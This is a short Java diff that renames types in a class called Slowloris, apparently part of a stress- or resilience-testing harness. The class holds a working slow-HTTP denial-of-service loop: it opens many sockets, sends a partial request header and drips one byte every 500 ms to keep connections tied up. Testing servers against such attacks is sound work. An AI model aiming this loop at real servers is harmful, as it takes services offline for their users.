@@ -19,13 +19,13 @@ final class Slowloris implements Attack {
     }
 
     @Override
-    public void run(Ground ground) {
+    public void run(AttackContext context) {
         byte[] head = "GET /release/websocket HTTP/1.1\r\nHost: siege\r\nX-Slow: ".getBytes(US_ASCII);
-        List<Intruder> clients = ground.connect(SOCKETS);
-        ground.eachSends(clients, head);
-        while (!ground.over() && !clients.isEmpty()) {
-            Ground.rest(500);
-            ground.eachSends(clients, (byte) 'x');
+        List<AttackSocket> clients = context.connect(SOCKETS);
+        context.eachSends(clients, head);
+        while (!context.over() && !clients.isEmpty()) {
+            AttackContext.rest(500);
+            context.eachSends(clients, (byte) 'x');
         }
     }
 }
